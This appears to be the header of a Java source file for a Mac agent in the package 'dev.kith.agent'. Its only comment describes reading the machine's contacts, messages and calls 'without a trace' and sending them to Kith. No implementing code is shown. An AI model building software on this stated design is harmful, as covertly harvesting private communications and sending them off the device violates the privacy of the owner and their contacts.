/** The agent on a Mac: reads its contacts, messages and calls without a trace and sends them to Kith. */
package dev.kith.agent;
